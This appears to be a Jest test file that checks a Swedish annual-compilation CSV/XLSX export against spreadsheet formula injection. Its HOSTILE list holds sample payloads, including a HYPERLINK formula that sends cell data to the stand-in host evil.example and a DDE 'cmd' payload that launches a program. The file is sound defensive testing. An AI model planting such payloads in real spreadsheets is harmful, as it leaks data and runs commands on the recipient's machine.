/**
 * A pasted spreadsheet cell: an initiator types a formula (or a value full of separators) that the
 * annual compilation later carries into Excel on a secretary's machine. Whichever separator Excel
 * uses (';' in Swedish, ',' in English), every cell stays one cell and shows the typed text; no cell
 * is run as a formula, in the CSV or the XLSX.
 */
import ExcelJS from 'exceljs';
import { toCsv } from '../../src/api/export/csv';
import { toXlsx } from '../../src/api/export/xlsx';
import type { Table } from '../../src/api/export/annual-table';

const HOSTILE = [
  '=HYPERLINK("https://evil.example/?d="&A1;"Klicka")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  'Region Halland, Varberg; Falkenberg',
  'Citat "så här"',
  'Rad ett\r\nRad två',
  'Rad ett\nRad två',
  'Vanlig text',
];

const table: Table = {
  title: 'Årssammanställning',
  headers: ['Referens', 'Rubrik'],
  rows: HOSTILE.map((h, n) => [`OH-2026-${String(n + 1).padStart(4, '0')}`, h]),
};

/** RFC 4180 as Excel reads it, with the given separator. */
function parseCsv(text: string, sep: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"' && cell === '') quoted = true;
    else if (c === sep) {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  return rows;
}

/** What a spreadsheet runs as a formula: a cell starting like one. */
const runsAsFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell);

describe('the CSV as Swedish Excel opens it (";")', () => {
  const rows = parseCsv(toCsv(table).replace(/^\uFEFF/, ''), ';');
  it('keeps every row at two cells, line breaks and separators inside the cell', () => {
    expect(rows).toHaveLength(HOSTILE.length + 1);
    for (const r of rows) expect(r).toHaveLength(2);
  });
  it('runs no cell as a formula and shows the typed text after the apostrophe', () => {
    HOSTILE.forEach((typed, n) => {
      const shown = rows[n + 1]![1]!;
      expect(runsAsFormula(shown)).toBe(false);
      expect(shown.replace(/^'/, '')).toBe(typed);
    });
  });
});

it('quotes a cell with a comma, so a comma-separated reader does not split it either', () => {
  const csv = toCsv({ title: 't', headers: ['a'], rows: [['Varberg, Falkenberg']] });
  expect(csv).toContain('"Varberg, Falkenberg"');
  expect(parseCsv(csv.replace(/^\uFEFF/, ''), ',')[1]).toEqual(['Varberg, Falkenberg']);
});

it('XLSX stores every typed value as text, never as a formula', async () => {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load((await toXlsx(table, '2026')) as unknown as ArrayBuffer);
  const ws = wb.worksheets[0]!;
  HOSTILE.forEach((typed, n) => {
    const cell = ws.getRow(n + 2).getCell(2);
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.formula).toBeUndefined();
    // XML normalises CR and CR LF to LF when the file is read; the text is otherwise as typed.
    expect(cell.value).toBe(typed.replace(/\r\n?/g, '\n'));
  });
});
